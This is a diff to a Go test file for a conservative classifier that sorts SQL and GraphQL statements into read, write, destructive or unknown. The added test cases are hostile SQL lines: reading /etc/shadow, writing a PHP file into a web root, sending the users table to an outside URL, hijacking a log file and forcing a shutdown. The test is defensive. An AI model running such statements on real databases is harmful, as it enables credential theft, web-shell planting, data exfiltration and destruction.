@@ -29,6 +29,15 @@ func TestKeywordClassifierIsConservative(t *testing.T) {
 		{action.KindSQL, "UPDATE users SET email = NULL WHERE id = 4", action.ClassWrite},
 		{action.KindSQL, "WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x", action.ClassDestructive},
 		{action.KindSQL, "frobnicate", action.ClassUnknown},
+		// Files on the server's machine, other hosts reached from it, and
+		// a shutdown after anything.
+		{action.KindSQL, "SELECT LOAD_FILE('/etc/shadow')", action.ClassUnknown},
+		{action.KindSQL, "SELECT 'x' INTO OUTFILE '/var/www/html/x.php'", action.ClassUnknown},
+		{action.KindSQL, "SELECT * FROM file('/etc/shadow', 'LineAsString')", action.ClassUnknown},
+		{action.KindSQL, "INSERT INTO FUNCTION url('https://e/x', CSV) SELECT * FROM users", action.ClassUnknown},
+		{action.KindSQL, "SET GLOBAL general_log_file='/var/lib/mysql/ibdata1'", action.ClassUnknown},
+		{action.KindSQL, "SET GLOBAL innodb_fast_shutdown=2; SHUTDOWN", action.ClassDestructive},
+		{action.KindSQL, "SELECT url FROM links", action.ClassRead},
 		{action.KindSQL, "", action.ClassUnknown},
 		{action.KindGraphQL, "query { me { id } }", action.ClassRead},
 		{action.KindGraphQL, `mutation { volumeDelete(volumeId: "v") }`, action.ClassDestructive},
